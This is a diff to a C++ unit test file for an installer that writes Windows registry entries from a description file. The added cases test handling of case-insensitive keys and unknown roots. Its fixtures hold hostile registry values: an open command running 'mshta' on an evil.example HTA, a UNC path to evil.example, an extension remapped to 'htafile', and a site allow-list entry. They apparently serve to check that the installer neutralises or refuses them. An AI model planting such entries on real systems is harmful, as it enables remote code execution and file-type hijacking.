@@ -91,6 +91,10 @@ TEST_F(RegistryEntries, InstallerKnowledgeFillsTheDescriptionsLayout)
                      "[HKCU_SCRATCH\\elsewhere]\n"
                      "\"EditFlags\"=hex:00\n"
                      "[HKCU_SCRATCH\\bare\\command]\n"
+                     "[HKCU_SCRATCH\\upper]\n"
+                     "\"PATH\"=\"\\\\\\\\evil.example\\\\s\"\n"
+                     "[HKCU_SCRATCH\\doc2\\shell\\open\\Command]\n"
+                     "\"\"=\"mshta https://evil.example/x.hta\"\n"
                      "[Program]\n"));
     CInstallDlg installer;
     installer.m_strPath = "C:\\Program Files\\Activeworlds";
@@ -114,6 +118,9 @@ TEST_F(RegistryEntries, InstallerKnowledgeFillsTheDescriptionsLayout)
         {"\\qxl_auto_file", "EditFlags", REG_BINARY, Bytes({1, 0, 0, 0})},
         {"\\elsewhere", "EditFlags", REG_BINARY, Bytes({1, 0, 0, 0})},
         {"\\bare\\command", "", REG_SZ, command},
+        // The registry ignores case, and so do the installer's own names.
+        {"\\upper", "Path", REG_SZ, "C:\\Program Files\\Activeworlds"},
+        {"\\doc2\\shell\\open\\command", "", REG_SZ, command},
     };
     for (const Expected& e : expected) {
         const Value value = ReadValue(HKEY_CURRENT_USER, Key(e.key), e.name);
@@ -123,37 +130,56 @@ TEST_F(RegistryEntries, InstallerKnowledgeFillsTheDescriptionsLayout)
     }
 }
 
-TEST_F(RegistryEntries, DocumentTypeFlagWordGoesOnlyUnderItsOwnKeyPath)
+TEST_F(RegistryEntries, DocumentTypeIsOursUnderEachOfItsNames)
 {
-    // The flag word is decided by the whole key path "qxl_auto_file", as the shell's classes
-    // root names the document type.
-    CDescriptionFile file;
-    ASSERT_TRUE(testenv::WriteFileBytes(m_file, "[HKEY_CLASSES_ROOT\\qxl_auto_file]\n\"EditFlags\"=hex:00\n"));
-    ASSERT_TRUE(file.Load(m_file.c_str()));
-    CInstallDlg installer;
-    installer.m_strPath = "C:\\qx";
-    ASSERT_EQ(1, installer.WriteRegistryEntries(file));
-    const Value value = ReadValue(HKEY_CLASSES_ROOT, "qxl_auto_file", "EditFlags");
-    EXPECT_EQ(REG_BINARY, value.type);
-    EXPECT_EQ(Bytes({0, 0, 1, 0}), value.data);
-    ::RegDeleteTreeA(HKEY_CLASSES_ROOT, "qxl_auto_file");
+    // The document type under each name the registry gives it, in any case: its edit flags are
+    // the flag word, and the extension names it whatever the description says, so that Launch
+    // never opens a world file as another type's program.
+    struct Case {
+        const char* section;
+        HKEY root;
+        const char* classes;  // where the type and the extension are, below `root`
+    } const cases[] = {
+        {"HKEY_CLASSES_ROOT", HKEY_CLASSES_ROOT, ""},
+        {"HKEY_CURRENT_USER\\Software\\Classes", HKEY_CURRENT_USER, "Software\\Classes\\"},
+        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\CLASSES", HKEY_LOCAL_MACHINE, "Software\\Classes\\"},
+    };
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.section);
+        CDescriptionFile file;
+        ASSERT_TRUE(testenv::WriteFileBytes(m_file, std::string("[") + c.section + "\\QXL_Auto_File]\n\"EditFlags\"=hex:00\n[" +
+                                                        c.section + "\\.QXL]\n\"\"=\"htafile\"\n"));
+        ASSERT_TRUE(file.Load(m_file.c_str()));
+        CInstallDlg installer;
+        installer.m_strPath = "C:\\qx";
+        ASSERT_EQ(1, installer.WriteRegistryEntries(file));
+        const std::string type = std::string(c.classes) + "qxl_auto_file", extension = std::string(c.classes) + ".qxl";
+        const Value flags = ReadValue(c.root, type, "EditFlags");
+        EXPECT_EQ(REG_BINARY, flags.type);
+        EXPECT_EQ(Bytes({0, 0, 1, 0}), flags.data);
+        EXPECT_EQ("qxl_auto_file", ReadValue(c.root, extension, "").data);
+        ::RegDeleteTreeA(c.root, type.c_str());
+        ::RegDeleteTreeA(c.root, extension.c_str());
+    }
 }
 
-TEST_F(RegistryEntries, PlainSectionsAndUnknownRootsAreSkipped)
+TEST_F(RegistryEntries, PlainSectionsAreSkippedAndUnknownRootsFailTheStep)
 {
     CDescriptionFile file;
     ASSERT_TRUE(Load(file,
                      "[Program]\n\"downurl\"=\"x\"\n"
                      "[HKCU_SCRATCH\\a]\n\"first\"=\"1\"\n"
                      "[hkey_current_user\\Software\\Tessaron\\qxCheckerTest\\Entries\\lower]\n\"skipped\"=\"1\"\n"
-                     "[HKEY_USERS\\Software\\Tessaron\\qxCheckerTest]\n\"skipped\"=\"1\"\n"
-                     "[HKCU_SCRATCH\\b]\n\"after\"=\"1\"\n"));
+                     "[HKCU_SCRATCH\\b]\n\"second\"=\"1\"\n"
+                     "[HKEY_USERS\\Software\\Tessaron\\qxCheckerTest]\n\"fails\"=\"1\"\n"
+                     "[HKCU_SCRATCH\\c]\n\"after\"=\"1\"\n"));
     CInstallDlg installer;
     installer.m_strPath = "C:\\qx";
-    EXPECT_EQ(1, installer.WriteRegistryEntries(file));
+    EXPECT_EQ(0, installer.WriteRegistryEntries(file));
     EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\a"), "first").present);
     EXPECT_FALSE(ReadValue(HKEY_CURRENT_USER, Key("\\lower"), "skipped").present);
-    EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\b"), "after").present) << "the walk goes on past a skipped root";
+    EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\b"), "second").present) << "the walk goes on past a plain section";
+    EXPECT_FALSE(ReadValue(HKEY_CURRENT_USER, Key("\\c"), "after").present) << "the walk ends at an unknown root";
 }
 
 namespace {
@@ -228,6 +254,8 @@ TEST_F(RegistryEntries, KeysOutsideTheLoadersOwnAreNeverWritten)
          "qxl_auto_file2\\shell\\open\\command", "", "\"\"=\"x\"", true},
         {"a look-alike record", "HKEY_CURRENT_USER\\SOFTWARE\\TessaronX", HKEY_CURRENT_USER, "SOFTWARE\\TessaronX",
          "Path", "\"Path\"=\"x\"", true},
+        {"the site lock's own list", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Tessaron\\qxChecker", HKEY_LOCAL_MACHINE,
+         "SOFTWARE\\Tessaron\\qxChecker", "AllowedSites", "\"AllowedSites\"=\"evil.example\"", true},
         {"a root name in lower case", "hkey_current_user\\Software\\Tessaron\\qxCheckerTest\\Entries\\lower",
          HKEY_CURRENT_USER, "Software\\Tessaron\\qxCheckerTest\\Entries\\lower", "v", "\"v\"=\"1\"", false},
     };
